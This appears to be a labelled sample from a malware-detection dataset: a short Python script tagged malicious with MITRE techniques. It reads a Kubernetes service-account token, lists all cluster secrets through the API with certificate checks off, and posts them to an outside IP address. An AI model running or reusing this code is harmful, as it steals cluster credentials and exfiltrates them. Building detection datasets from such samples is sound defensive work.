# label: malicious family=k8s techniques=T1552.007,T1613,T1041 lines=3,5-6
import requests, os
tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
host = os.environ["KUBERNETES_SERVICE_HOST"]
r = requests.get("https://%s/api/v1/secrets" % host, headers={"Authorization": "Bearer " + tok}, verify=False)
requests.post("http://198.51.100.201/s", data=r.text)
